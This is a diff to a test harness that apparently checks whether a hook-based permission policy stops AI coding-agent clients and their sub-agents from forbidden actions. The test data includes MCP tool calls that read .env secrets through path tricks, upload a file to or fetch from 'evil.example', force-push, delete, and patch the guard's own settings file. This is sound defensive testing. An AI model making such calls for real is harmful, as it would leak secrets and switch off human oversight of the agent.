@@ -60,7 +60,7 @@ from .server import MARK, Script, served
 ROOT = Path(__file__).parents[2]
 KEPT = ROOT / "build" / "client-hooks"
 PAGE = ROOT / "docs" / "howto" / "hooks.md"
-_SECONDS = 400
+_SECONDS = 900
 POLICY = """
 policy.rules = [
   {verdict = "deny", path = "*.env"},
@@ -70,6 +70,8 @@ policy.rules = [
   {verdict = "allow", domain = "docs.python.org"},
   {verdict = "ask", kind = "fetch"},
   {verdict = "deny", server = "*", outside = true},
+  {verdict = "deny", server = "*", tool = "*delete*"},
+  {verdict = "deny", server = "*", arguments = {force = true}},
   {verdict = "allow", command = "make *"},
 ]
 """
@@ -79,7 +81,7 @@ OPTIONS: dict[str, Callable[[str], Sequence[str]]] = {
     "cline": lambda prompt: (
         *("--json", "--auto-approve", "true", "-P", "openai-compatible", "-m", "claude-sonnet-4-5", prompt),
     ),
-    "goose": lambda prompt: ("run", "--no-session", "--no-profile", "--with-builtin", "developer", "-t", prompt),
+    "goose": lambda prompt: ("run", "--no-session", "-t", prompt),
 }
 ENFORCING = ("claude_code", "codex", "gemini_cli", "qwen_code", "copilot", "opencode", "pi", "droid", "cline", "goose")
 """Clients that are run here."""
@@ -90,6 +92,10 @@ NOT_RUN = {
 WITH_SUB_AGENTS = frozenset(("claude_code", "codex", "gemini_cli", "qwen_code", "copilot", "opencode", "cline"))
 """Clients in which a scripted model can start a sub-agent: pi has none, droid's needs its maker's server, and
 those of Goose 1.52.0 call no hooks."""
+WITH_SERVERS = frozenset(ENFORCING) - {"pi"}
+"""Clients that have MCP servers."""
+NAMING_SERVERS = WITH_SERVERS - {"opencode", "copilot"}
+"""Clients whose hooks say that a tool is a server's. In the others it is one that is not known, and is asked about."""
 ENDED_BY_DENIAL = frozenset(("cline",))
 """Clients whose whole run ends with a denial: each forbidden call is a run of its own there."""
 _LAST = {"cline": b'"type":"run_result"'}
@@ -108,6 +114,8 @@ def setup_of(client: str, port: int) -> Setup:
     if client == "gemini_cli":
         name = ".gemini/settings.json"
         setup.files[name] = {**setup.files[name], "model": {"disableLoopDetection": True}}
+        limits = {"generalist": {"runConfig": {"maxTurns": 200, "maxTimeMinutes": 20}}}
+        setup.files[name] |= {"agents": {"overrides": limits}}
     return setup
 
 
@@ -186,15 +194,36 @@ RENAMED = ("cat", "cp", "rm", "git", "curl", "patch")
 
 SERVER = "notes"
 CHILD = "[[the turn of the sub-agent]]"
-IN_SERVER: dict[str, tuple[str, dict[str, Any]]] = {
-    # Forbidden things with the tools of an MCP server, which does them if it is asked.
-    "a path": ("read_note", {"path": "PROJECT/.env"}),
-    "a relative path": ("read_note", {"path": ".env"}),
-    "a path with dots": ("read_note", {"path": "src/../.env"}),
-    "an address": ("read_note", {"path": "file://PROJECT/.env"}),
-    "a list": ("read_notes", {"paths": ["a.py", ".env"]}),
-    "a file outside": ("write_note", {"path": "../out", "text": "x"}),
+IN_SERVER: dict[str, tuple[tuple[str, dict[str, Any]], ...]] = {
+    # Forbidden things with the tools of an MCP server that are there for them.
+    "read a secret": (
+        ("read_note", {"path": "PROJECT/.env"}),
+        ("read_note", {"path": ".env"}),
+        ("read_note", {"path": "src/../.env"}),
+        ("read_note", {"path": "file://PROJECT/.env"}),
+        ("read_notes", {"paths": ["a.py", ".env"]}),
+    ),
+    "write outside": (("write_note", {"path": "../out", "text": "x"}),),
+    "delete": (("delete_note", {"path": "keep"}),),
+    "force-push": (("push_notes", {"force": True}),),
+    "fetch from an unknown host": (
+        ("fetch_page", {"url": "http://evil.example/"}),
+        ("fetch_page", {"url": "evil.example"}),
+    ),
+    "upload a file": (("upload_note", {"path": "a.py", "url": "http://evil.example/"}),),
+    "patch a protected file": (
+        ("patch_notes", {"patch": SCRIPTS["off.patch"]}),
+        ("write_note", {"path": f"PROJECT/{SETTINGS}", "text": "off"}),
+    ),
 }
+IN_SERVER_ALLOWED: tuple[tuple[str, dict[str, Any]], ...] = (
+    ("read_note", {"path": "a.py"}),
+    ("write_note", {"path": "note.txt", "text": "x"}),
+    ("run_line", {"command": "ls -la"}),
+    ("push_notes", {"force": False}),
+)
+"""Ordinary calls of the same tools, in the clients whose hooks say that a tool is a server's."""
+IN_SUB_AGENT_ALLOWED = ("ls -la", "git status", "sed -n 1,5p a.py", "make test")
 
 
 def _reaching_server(client: str, words: list[str]) -> tuple[dict[str, Any], Sequence[str]]:
@@ -219,6 +248,12 @@ def _reaching_server(client: str, words: list[str]) -> tuple[dict[str, Any], Seq
         case "droid":
             stdio = {SERVER: {"type": "stdio", **usual[SERVER], "disabled": False}}
             return {".factory/mcp.json": {"mcpServers": stdio}}, ()
+        case "goose":
+            own: dict[str, Any] = {
+                "developer": {"enabled": True, "type": "builtin", "name": "developer", "timeout": 300}
+            }
+            run = {"enabled": True, "type": "stdio", "name": SERVER, "cmd": program, "args": rest, "envs": {}}
+            return {".config/goose/config.yaml": {"extensions": {**own, SERVER: {**run, "timeout": 300}}}}, ()
         case "cline":
             return {".cline/data/settings/cline_mcp_settings.json": {"mcpServers": usual}}, ()
     return {}, ()
@@ -255,7 +290,11 @@ class Asked(NamedTuple):
 
 IN_SUB_AGENT, IN_A_SERVER = "in a sub-agent", "with an MCP server's tool"
 ALLOWED = "ordinary calls that ran"
-ROWS = (*FORBIDDEN, IN_A_SERVER, IN_SUB_AGENT, ALLOWED)
+ROWS = (
+    *FORBIDDEN,
+    *(f"{row}, {place}" for place in (IN_A_SERVER, IN_SUB_AGENT) for row in FORBIDDEN),
+    ALLOWED,
+)
 _MARK = "Not allowed by dragoman"
 _AFTER = "it ran before it could be stopped"
 _SECRET = "heliotrope"
@@ -267,24 +306,39 @@ _REFUSED = re.compile(
 
 
 def forbidden(project: Path) -> Iterator[Asked]:
+    """What the policy forbids, done by the agent itself."""
     yield Asked("", "read what is edited later", ReadFile(str(project / SETTINGS)))
     for row, what in FORBIDDEN.items():
         for way in what.ways():
             operation = RunCommand(way) if isinstance(way, str) else _placed(way, project)
             yield Asked(row, way if isinstance(way, str) else f"{row} by {way.__struct_config__.tag}", operation)
-    for name, (tool, given) in IN_SERVER.items():
-        yield Asked(IN_A_SERVER, f"server: {name}", _placed(CallMcpTool(SERVER, tool, given), project))
 
 
-def ordinary(project: Path) -> Iterator[Asked]:
+def in_server(project: Path) -> Iterator[Asked]:
+    """The same with the tools of a server: those that are there for it, and one that runs a line."""
+    for row, what in FORBIDDEN.items():
+        lines = [("run_line", {"command": way}) for way in what.ways() if isinstance(way, str)]
+        for number, (tool, given) in enumerate((*IN_SERVER.get(row, ()), *lines)):
+            name = str(given["command"]) if tool == "run_line" else f"{tool} {number}"
+            operation = _placed(CallMcpTool(SERVER, tool, given), project)
+            yield Asked(f"{row}, {IN_A_SERVER}", name, operation)
+
+
+def in_sub_agent(project: Path) -> Iterator[Asked]:
+    """The same by a sub-agent, and what is ordinary."""
+    for one in forbidden(project):
+        yield one._replace(row=f"{one.row}, {IN_SUB_AGENT}" if one.row else "")
+    for line in IN_SUB_AGENT_ALLOWED:
+        yield Asked(ALLOWED, f"agent: {line}", RunCommand(line))
+
+
+def ordinary(client: str, project: Path) -> Iterator[Asked]:
+    """What the policy lets through."""
     for line in ORDINARY:
         yield Asked(ALLOWED, line, RunCommand(line))
     yield Asked(ALLOWED, "read a file with its tool", ReadFile(str(project / "b.py")))
-
-
-def in_sub_agent() -> Iterator[Asked]:
-    for line in FORBIDDEN["read a secret"][:6]:
-        yield Asked(IN_SUB_AGENT, f"agent: {line}", RunCommand(str(line)))
+    for number, (tool, given) in enumerate(IN_SERVER_ALLOWED if client in NAMING_SERVERS else ()):
+        yield Asked(ALLOWED, f"server: {tool} {number}", CallMcpTool(SERVER, tool, given))
 
 
 def _placed(operation: Operation, project: Path) -> Operation:
@@ -366,7 +420,7 @@ class _Inside:
     def skip_line_before(self) -> None:
         """As if the line before a call had been skipped: what it says is taken out, the rest of it stays."""
         events = "|".join(client_named(self.client).lines)
-        asks = re.compile(rf"[^\s\"]+/dragoman hook --client {self.client} --event (?:{events})\b")
+        asks = re.compile(rf'(?m)(?:(?<=")|^)[^"\n]*? hook --client {self.client} --event (?:{events})\b')
         for path in (target.path for target in targets_of(self.client, None, outcomes=True)):
             text = path.read_text()
             path.write_text(asks.sub("true #", text).replace('ask("tool", ', '((..._) => null)("tool", '))
@@ -443,7 +497,9 @@ def _run(client: str, folder: Path, found: Path, node: Path | None) -> Seen:
     named = "generalist" if client == "gemini_cli" else None  # the one that it brings along, and must be told
     sub_agent = SpawnAgent(f"Do it, too. {CHILD}", agent=named, description="look")
     agent = Asked("", "a sub-agent", sub_agent)
-    stopped, passed = list(forbidden(project)), list(ordinary(project))
+    stopped, passed = [*forbidden(project), *in_server(project)], list(ordinary(client, project))
+    has_agents = client in WITH_SUB_AGENTS
+    child = list(in_sub_agent(project)) if has_agents else []
     try:
         with served(inside) as port:
             inside.install(port)
@@ -451,11 +507,13 @@ def _run(client: str, folder: Path, found: Path, node: Path | None) -> Seen:
                 for one in stopped:
                     told |= inside.run([one])[0]
                 told |= inside.run(passed)[0]
-                for one in in_sub_agent():
-                    told |= inside.run([agent], [one])[1]
+                for one in child:
+                    if one.row != ALLOWED:
+                        told |= inside.run([agent], [one])[1]
+                told |= inside.run([agent], [one for one in child if one.row == ALLOWED])[1]
             else:
                 # The sub-agent is first: in some clients it runs beside the others.
-                mine, its = inside.run([agent, *stopped, *passed], in_sub_agent())
+                mine, its = inside.run([*([agent] if has_agents else []), *stopped, *passed], child)
                 told |= mine | its
             effects = list(_effects(told, home, project))
             inside.skip_line_before()
@@ -521,14 +579,28 @@ def _recorded(decisions: Path) -> dict[str, int]:
     return dict(Counter(named))
 
 
-def problems(seen: Seen) -> list[str]:
+def expected_rows(client: str) -> list[str]:
+    """The rows of the table in which a client has a count."""
+    left_out = [*([] if client in WITH_SERVERS else [IN_A_SERVER])]
+    left_out += [] if client in WITH_SUB_AGENTS else [IN_SUB_AGENT]
+    return [row for row in ROWS if not row.endswith(tuple(left_out))]
+
+
+def expected(row: str) -> int:
+    """The fewest calls of a row: a client may not have a tool for it, but it has a command line."""
+    if row == ALLOWED:
+        return len(ORDINARY) + 1
+    by_line = [way for way in FORBIDDEN[row.partition(",")[0]].ways()[:6] if isinstance(way, str)]
+    return len(by_line) + len(IN_SERVER.get(row.partition(",")[0], ())) * row.endswith(IN_A_SERVER)
+
+
+def problems(client: str, seen: Seen) -> list[str]:
     """What a client let through, or stopped, against the policy."""
     if seen.problem:
         return [seen.problem]
     ran = [name for name, is_denied in seen.denied.items() if not is_denied and not name.startswith(ALLOWED)]
     stopped = [name for name, is_denied in seen.denied.items() if is_denied and name.startswith(ALLOWED)]
-    missing = [row for row in (*FORBIDDEN, ALLOWED) if _count(seen, row)[1] < (21 if row == ALLOWED else 6)]
-    told = [f"not tried in all ways: {row}" for row in missing]
+    told = [f"not tried in all ways: {row}" for row in expected_rows(client) if _count(seen, row)[1] < expected(row)]
     return [
         *seen.effects,
         *(f"ran: {name}: {seen.told[name]!r}" for name in ran),
@@ -567,7 +639,7 @@ def main(arguments: Sequence[str]) -> int:
     with tempfile.TemporaryDirectory(prefix="dragoman-hooks-", ignore_cleanup_errors=True) as folder:
         for client in chosen:
             seen = tried(client, Path(folder).resolve() / client)
-            wrongs = problems(seen)
+            wrongs = problems(client, seen)
             wrong = wrong or bool(wrongs)
             if not wrongs:
                 KEPT.mkdir(parents=True, exist_ok=True)
